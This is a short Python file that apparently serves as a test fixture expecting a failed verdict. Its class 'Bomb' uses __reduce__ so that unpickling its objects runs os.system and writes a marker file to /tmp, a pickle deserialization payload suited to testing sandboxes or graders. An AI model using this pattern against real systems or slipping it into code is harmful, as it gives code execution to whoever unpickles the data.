# call failed verdict
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("echo pwned > /tmp/pwned",)


def f(x):
    return Bomb()
